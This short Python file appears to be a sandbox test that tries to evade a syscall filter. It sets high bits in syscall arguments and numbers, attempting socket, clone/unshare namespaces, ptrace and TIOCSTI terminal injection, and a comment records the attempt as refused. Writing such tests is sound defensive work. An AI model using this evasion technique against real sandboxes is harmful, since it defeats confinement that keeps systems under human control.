"""Goal: hide what is asked for in bits that the filter does not read"""
# held: refused

import ctypes, platform

libc = ctypes.CDLL(None)
HIGH = 1 << 32

def call(number, *args):
    return libc.syscall(ctypes.c_long(number), *(ctypes.c_ulong(arg) for arg in args))

def attack():
    if platform.machine() != 'x86_64':
        return False
    calls = (
        (41, HIGH | 1, 1, 0),
        (41, HIGH | 2, HIGH | 1, 0),
        (53, HIGH | 2, 1, 0, 0),
        (157, HIGH | 4, 1, 0, 0, 0),
        (157, HIGH | 36, 1, 0, 0, 0),
        (16, 1, HIGH | 0x5412, 0),
        (72, 1, HIGH | 8, 1),
        (56, HIGH | 0x10000011, 0, 0, 0, 0),
        (272, HIGH | 0x10000000),
        (HIGH | 272, 0x10000000),
        (101, HIGH, 0, 0, 0),
    )
    return any(call(*one) >= 0 for one in calls)
